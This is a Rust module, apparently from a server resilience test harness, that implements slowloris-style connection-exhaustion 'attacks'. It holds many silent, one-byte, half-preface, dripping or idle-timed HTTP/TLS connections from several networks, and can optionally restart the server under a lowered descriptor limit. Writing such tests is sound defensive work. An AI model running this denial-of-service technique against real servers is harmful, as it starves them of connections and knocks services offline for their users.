//! Connections that say nothing, or as little as keeps them.

use std::io;
use std::rc::Rc;
use std::time::Duration;

use async_trait::async_trait;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::{Attack, Effort, Stage, Target, add, network};

/// What is said before the silence.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Silence {
    /// Not even a TLS handshake.
    Tcp,
    /// The handshake.
    Tls,
    /// One byte of what may become HTTP/2.
    OneByte,
    /// Most of what begins HTTP/2.
    HalfPreface,
    /// A head, a byte each two seconds.
    Drip,
    /// Whole requests, each just before the connection would be idle too long.
    IdleAgain,
}

impl Silence {
    /// All of them.
    pub const ALL: [Self; 6] =
        [Self::Tcp, Self::Tls, Self::OneByte, Self::HalfPreface, Self::Drip, Self::IdleAgain];
}

/// Who takes places and says nothing.
#[derive(Debug, Clone)]
pub struct Silent {
    /// What is said before.
    pub how: Silence,
    /// Connections that are held; one that is ended is made anew.
    pub places: usize,
    /// They come from so many networks.
    pub networks: usize,
    /// The server was started with a soft limit of so many descriptors.
    pub descriptors: Option<usize>,
}

/// Connections under way at a time.
const AT_ONCE: usize = 128;

#[async_trait(?Send)]
impl Attack for Silent {
    fn name(&self) -> String {
        let Self { how, places, networks, descriptors } = self;
        let limit = descriptors.map_or(String::new(), |limit| format!(", ulimit -Sn {limit}"));
        format!("silent {how:?}: {places} from {networks} networks{limit}")
    }

    fn arm(&mut self, stage: &mut Stage) {
        if let Some(limit) = self.descriptors {
            let shell = format!("ulimit -Sn {limit}; exec \"$0\" \"$@\"");
            stage.cluster.wrap_server(&["sh".to_owned(), "-c".to_owned(), shell]);
            stage.restart(|_| ());
        }
    }

    async fn run(&self, target: Target, effort: Rc<Effort>) {
        let opening = Rc::new(Semaphore::new(AT_ONCE));
        let mut held = JoinSet::new();
        let tried = Rc::new(std::cell::Cell::new(0));
        for slot in 0..self.places {
            let (target, effort, opening, tried) =
                (target.clone(), Rc::clone(&effort), Rc::clone(&opening), Rc::clone(&tried));
            let Self { how, networks, places, .. } = *self;
            held.spawn_local(async move {
                // The last networks come when the others have all that is left: theirs is the reserve.
                let from = network(slot * networks / places);
                let mut first = true;
                loop {
                    let Ok(permit) = opening.acquire().await else { return };
                    let opened = open(&target, from, how).await;
                    drop(permit);
                    if std::mem::take(&mut first) {
                        tried.set(tried.get() + 1);
                        effort.ready.set(effort.ready.get() || tried.get() == places);
                    }
                    match opened {
                        Ok(stream) => {
                            add(&effort.connections, 1);
                            hold(stream, how, &effort).await;
                            add(&effort.ended, 1);
                        }
                        Err(_) => {
                            add(&effort.ended, 1);
                            sleep(Duration::from_millis(200)).await;
                        }
                    }
                }
            });
        }
        std::future::pending::<()>().await;
    }
}

trait Bytes: AsyncRead + AsyncWrite + Unpin {}
impl<T: AsyncRead + AsyncWrite + Unpin> Bytes for T {}

async fn open(target: &Target, from: std::net::IpAddr, how: Silence) -> io::Result<Box<dyn Bytes>> {
    if how == Silence::Tcp {
        return Ok(Box::new(target.tcp(from, None).await?));
    }
    let http2 = matches!(how, Silence::OneByte | Silence::HalfPreface);
    let mut stream = target.tls(from, http2, None).await?;
    let said: &[u8] = match how {
        Silence::Tcp | Silence::Tls => b"",
        Silence::OneByte => b"P",
        Silence::HalfPreface => b"PRI * HTTP/2.0\r\n",
        Silence::Drip => b"GET /healthz HT",
        Silence::IdleAgain => b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n",
    };
    stream.write_all(said).await?;
    stream.flush().await?;
    Ok(Box::new(stream))
}

/// Until the server ends it.
async fn hold(mut stream: Box<dyn Bytes>, how: Silence, effort: &Effort) {
    let (pause, says): (_, &[u8]) = match how {
        Silence::Drip => (Duration::from_secs(2), b"T"),
        Silence::IdleAgain => (Duration::from_millis(13_500), b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n"),
        _ => (Duration::from_secs(3600), b""),
    };
    let mut answer = [0; 1024];
    loop {
        let said_at = tokio::time::Instant::now();
        loop {
            let left = pause.saturating_sub(said_at.elapsed());
            match timeout(left, stream.read(&mut answer)).await {
                Ok(Ok(1..)) => {}
                Ok(_) => return,
                Err(_) => break,
            }
        }
        add(&effort.requests, 1);
        if stream.write_all(says).await.is_err() || stream.flush().await.is_err() {
            return;
        }
    }
}
